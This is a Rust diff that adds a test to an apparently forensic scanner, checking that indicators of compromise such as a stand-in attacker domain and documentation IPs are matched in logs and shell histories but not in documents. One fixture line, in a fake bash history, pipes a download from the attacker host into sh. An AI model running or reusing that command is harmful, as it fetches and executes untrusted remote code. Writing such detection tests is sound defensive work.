@@ -4,7 +4,7 @@ use std::fs;
 use std::path::Path;
 
 use tempfile::TempDir;
-use veldkit::evidence::Utc;
+use veldkit::evidence::{Origin, Utc};
 use veldkit::scan::indicators::{Case, Format, IndicatorSource, Indicators, read_bytes};
 use veldkit::scan::{EngineKind, Facts, RuleSource, Scanner};
 
@@ -393,4 +393,38 @@ fn an_include_reads_what_is_below_the_named_directory_and_nothing_else() {
         let failed: Vec<_> = scanner.failed().filter_map(|file| file.failed.clone()).collect();
         assert!(failed.len() == 1 && failed[0].contains(why), "{failed:?}");
     }
+}
+
+#[test]
+fn text_of_logs_and_histories_is_matched_and_that_of_documents_is_not() {
+    let all =
+        read("evil.example.com;c2\n198.51.100.7;c2\n2001:db8::8;c2\nhttp://other.example.org/a?b=1;drop\n");
+    let file = |path: &str| Origin::root(path.trim_start_matches('/'));
+    for (path, text) in [
+        ("/var/log/syslog", "Jan 1 host named[1]: query: cdn.evil.example.com IN A"),
+        ("/var/log/nginx/access.log.1", "198.51.100.7 - - \"GET / HTTP/1.1\" 200"),
+        ("/root/.bash_history", "curl -s http://EVIL.example.com:8080/x | sh"),
+        ("/srv/app/app.log", "src=198.51.100.7:443 dst=10.0.0.1"),
+        ("/var/log/auth.log", "Accepted password for root from 2001:db8::8 port 4711 ssh2"),
+        ("/home/u/.zsh_history", ": 1700000000:0;ssh root@198.51.100.7."),
+        ("/home/u/.config/google-chrome/Default/History", "\u{1}\u{2}http://evil.example.com/aTitle\u{3}"),
+        ("/opt/x/logs/proxy", "CONNECT evil.example.com:443 HTTP/1.1"),
+        ("/var/log/squid/access.log", "http://other.example.org/a?b=1"),
+    ] {
+        let found = all.text(&file(path), text.as_bytes()).unwrap();
+        assert_eq!(found.hits.len(), 1, "{path}: {:?}", found.hits);
+        let place = &found.hits[0].matches[0];
+        assert!(usize::try_from(place.offset + place.length).unwrap() <= text.len());
+    }
+    let wide: Vec<u8> =
+        "\u{feff}GET http://evil.example.com/".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert_eq!(all.text(&file("/x/transcript.log"), &wide).unwrap().hits.len(), 1);
+    for text in ["notevil.example.com", "1198.51.100.7", "evil.example.com.org", "198.51.100.70"] {
+        assert_eq!(all.text(&file("/var/log/syslog"), text.as_bytes()).unwrap().hits, [], "{text}");
+    }
+    assert_eq!(all.text(&file("/home/u/report.txt"), b"evil.example.com"), None);
+    // A log full of bad addresses fills no record, and says that it was not matched to its end.
+    let all = read("198.51.100.0/24;bad\n");
+    let many: String = (0..2_000).map(|n| format!("198.51.100.{}/{n}x{n}\n", n % 250)).collect();
+    assert!(all.text(&file("/var/log/x"), many.as_bytes()).unwrap().hits.len() <= 256);
 }
